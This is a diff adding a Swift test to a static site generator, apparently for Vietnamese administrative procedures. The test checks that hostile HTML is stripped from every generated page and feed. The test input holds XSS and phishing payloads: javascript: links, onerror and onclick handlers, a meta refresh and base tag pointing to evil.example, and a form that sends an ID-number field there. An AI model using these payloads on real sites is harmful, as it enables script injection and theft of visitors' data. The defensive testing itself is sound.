@@ -145,6 +145,39 @@ import Testing
         }
     }
 
+    /// A whole site with allow_html on: pages, notices (and so feed.xml) and procedure detail
+    /// files carry hostile HTML; no output file may keep any of it.
+    @Test func noOutputFileKeepsScriptableHTML() throws {
+        let hostile = """
+        Giới thiệu <a href="javascript:alert(1)">bấm</a> <img src=x onerror="alert(2)" alt="ảnh">
+
+        <base href="https://evil.example/">
+        <meta http-equiv="refresh" content="0;url=https://evil.example/">
+        <form action="https://evil.example/gom"><input name="cccd"></form>
+        <object data="x.swf"></object><embed src="x.swf">
+        <div onclick="alert(3)" style="position:fixed">khung</div> <a href="&#106;avascript:alert(4)">x</a>
+        """
+        let temporary = try TemporarySite([
+            "pages/gioi-thieu.md": "---\ntitle: Giới thiệu\n---\n" + hostile,
+            "notices/tb.md": "---\ntitle: Thông báo\ndate: 01/02/2025\n---\n" + hostile,
+            "data/thu-tuc.csv": "Mã TTHC,Tên thủ tục,Lĩnh vực,Thời hạn giải quyết,Phí\n1.001193,Đăng ký khai sinh,Hộ tịch,1 ngày,Miễn phí\n",
+            "data/thu-tuc/1.001193.md": "## Trình tự thực hiện\n\n" + hostile,
+        ], config: TemporarySite.minimalConfig + "\nallow_html: true\n")
+        _ = try SiteBuilder.build(temporary.options(), diagnostics: Diagnostics())
+        let output = treeContents(temporary.output)
+        #expect(output["gioi-thieu/index.html"] != nil && output["feed.xml"] != nil)
+        #expect(output["thu-tuc-hanh-chinh/1.001193/index.html"] != nil)
+        for (path, data) in output where path.hasSuffix(".html") || path.hasSuffix(".xml") {
+            let text = String(decoding: data, as: UTF8.self).lowercased()
+            for needle in ["javascript:", "&#106;avascript", "onerror", "onclick", "evil.example", "http-equiv=\"refresh",
+                           "x.swf", "position:fixed"] {
+                #expect(!text.contains(needle), "\(needle) in \(path)")
+            }
+        }
+        let page = String(decoding: try #require(output["gioi-thieu/index.html"]), as: UTF8.self)
+        #expect(page.contains("<a>bấm</a>") && page.contains("<img src=\"x\" alt=\"ảnh\">") && page.contains("<div>khung</div>"))
+    }
+
     @Test func taskListCheckboxesKeepTheirNames() throws {
         let html = try unsafe.render("- [x] xong\n- [ ] chưa\n")
         #expect(html.contains("<input type=\"checkbox\" checked=\"\" disabled=\"\" aria-label=\"Đã có\" />"))
